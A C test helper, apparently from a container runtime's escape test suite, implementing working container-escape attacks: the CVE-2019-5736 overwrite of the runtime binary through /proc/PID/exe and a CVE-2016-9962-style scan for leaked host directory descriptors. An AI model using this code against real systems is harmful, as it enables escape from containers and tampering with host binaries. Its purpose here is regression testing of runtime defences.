/*
 * attack.c - a hostile container's side of the escape tests
 * (tests/e2e/attack-runtime.bats).  It does what an attacker in a
 * container would do, and writes what it achieved to a report file the
 * test reads from the host.  Linked statically: it runs in any rootfs.
 *
 *   cv-attack exe PID|scan SIZE REPORT SECONDS [-d]
 *       CVE-2019-5736: hold /proc/PID/exe (or, with scan, that of every
 *       other process whose file is SIZE bytes: the runtime) and, until
 *       SECONDS pass, reopen it for writing through /proc/self/fd/N; once
 *       that works, overwrite its first bytes.  -d: go on in the
 *       background once something is held (a hook must return).
 *       Report lines: "held PID", "denied PID ERRNO", "reopen PID ERRNO",
 *       "wrote PID", "done".
 *
 *   cv-attack fds MARK REPORT SECONDS
 *       CVE-2016-9962's kind: look through every other process's open
 *       descriptors (/proc/N/fd/M) for a directory of the host, and try
 *       to reach MARK (a file's name) from it, as "MARK" or "../MARK".
 *       Report lines: "leak PID FD TARGET" for each reached, "done SEEN"
 *       with how many descriptors of others it could open at all.  It
 *       stops early once a file REPORT.stop exists.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static int report_fd = -1;

static void report(const char *fmt, ...)
{
	char line[512];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
	va_end(ap);
	line[n++] = '\n';
	(void)!write(report_fd, line, (size_t)n);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void pause_ms(long ms)
{
	nanosleep(&(struct timespec){ms / 1000, (ms % 1000) * 1000000}, NULL);
}

/* --- exe ------------------------------------------------------------------ */

struct held {
	int fd;
	pid_t pid;
	bool done;
};

static struct held held[MAX_HELD];
static int n_held;

/* Hold /proc/PID/exe, once per file; `quiet` for scans, which meet many processes. */
static void grab(pid_t pid, off_t size, bool quiet)
{
	char path[64];
	struct stat st, other;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	if ((fd = open(path, O_PATH | O_CLOEXEC)) < 0) {
		if (!quiet)
			report("denied %d %s", (int)pid, strerror(errno));
		return;
	}
	if (fstat(fd, &st) < 0 || (size && st.st_size != size)) {
		close(fd);
		return;
	}
	for (int i = 0; i < n_held; i++)
		if (fstat(held[i].fd, &other) == 0 && other.st_ino == st.st_ino &&
		    other.st_dev == st.st_dev) {
			close(fd);
			return;
		}
	if (n_held == MAX_HELD) {
		close(fd);
		return;
	}
	held[n_held++] = (struct held){fd, pid, false};
	report("held %d", (int)pid);
}

static void scan(off_t size)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	while (d && (e = readdir(d))) {
		pid_t pid = (pid_t)atoi(e->d_name);
		if (pid > 0 && pid != getpid() && pid != getppid())
			grab(pid, size, true);
	}
	if (d)
		closedir(d);
}

/* Every held file has given its final answer (written, or refused for good). */
static bool all_answered(void)
{
	for (int i = 0; i < n_held; i++)
		if (!held[i].done)
			return false;
	return true;
}

/* Try each held file for writing; true once one was written. */
static bool try_write(void)
{
	char path[64];

	for (int i = 0; i < n_held; i++) {
		int fd;
		if (held[i].done)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
		if ((fd = open(path, O_WRONLY | O_CLOEXEC)) < 0) {
			if (errno != ETXTBSY) { /* busy: still executed somewhere; else final */
				report("reopen %d %s", (int)held[i].pid, strerror(errno));
				held[i].done = true;
			}
			continue;
		}
		if (pwrite(fd, "#!/bin/sh\necho pwned\n", 21, 0) == 21) {
			report("wrote %d", (int)held[i].pid);
			close(fd);
			return true;
		}
		report("reopen %d write: %s", (int)held[i].pid, strerror(errno));
		held[i].done = true;
		close(fd);
	}
	return false;
}

static int attack_exe(const char *target, off_t size, double seconds, bool background)
{
	double end = now() + seconds;
	bool scanning = !strcmp(target, "scan");

	/* a target named by pid is grabbed once, now; a scan goes on until something is held */
	if (!scanning)
		grab((pid_t)atoi(target), size, false);
	while (scanning && n_held == 0 && now() < end) {
		scan(size);
		if (!n_held)
			pause_ms(1);
	}
	if (background && n_held && fork() > 0)
		return 0; /* the hook returns; the child goes on holding */
	while (n_held && !all_answered() && now() < end) {
		if (try_write())
			break;
		pause_ms(5);
	}
	report("done");
	return 0;
}

/* --- fds -------------------------------------------------------------------- */

/* Every descriptor of process pid that is a directory: can MARK be reached from it? */
static int look_at(pid_t pid, const char *mark)
{
	char dir[64], path[384], target[256], up[300];
	DIR *d;
	struct dirent *e;
	int seen = 0;

	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
	if (!(d = opendir(dir)))
		return 0;
	while ((e = readdir(d))) {
		int fd;
		ssize_t n;
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		if ((fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC)) < 0) {
			seen += errno == ENOTDIR; /* opened, just not a directory */
			continue;
		}
		seen++;
		snprintf(up, sizeof(up), "../%s", mark);
		if (faccessat(fd, mark, F_OK, 0) == 0 || faccessat(fd, up, F_OK, 0) == 0) {
			n = readlink(path, target, sizeof(target) - 1);
			target[n > 0 ? n : 0] = '\0';
			report("leak %d %s %s", (int)pid, e->d_name, target);
		}
		close(fd);
	}
	closedir(d);
	return seen;
}

static int attack_fds(const char *mark, const char *stop, double seconds)
{
	double end = now() + seconds;
	long seen = 0;

	while (now() < end && access(stop, F_OK) < 0) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			pid_t pid = (pid_t)atoi(e->d_name);
			if (pid > 1 && pid != getpid())
				seen += look_at(pid, mark);
		}
		if (d)
			closedir(d);
	}
	report("done %ld", seen);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 5 && !strcmp(argv[1], "exe")) {
		if ((report_fd = open(argv[4], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644)) <
		    0)
			return perror(argv[4]), 2;
		signal(SIGHUP, SIG_IGN);
		return attack_exe(argv[2], (off_t)atoll(argv[3]), atof(argc > 5 ? argv[5] : "10"),
				  argc > 6 && !strcmp(argv[6], "-d"));
	}
	if (argc >= 5 && !strcmp(argv[1], "fds")) {
		if ((report_fd = open(argv[3], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644)) <
		    0)
			return perror(argv[3]), 2;
		char stop[4096];
		snprintf(stop, sizeof(stop), "%s.stop", argv[3]);
		return attack_fds(argv[2], stop, atof(argv[4]));
	}
	fprintf(stderr, "usage: cv-attack exe PID|scan SIZE REPORT [SECONDS [-d]]\n"
			"       cv-attack fds MARK REPORT SECONDS\n");
	return 2;
}
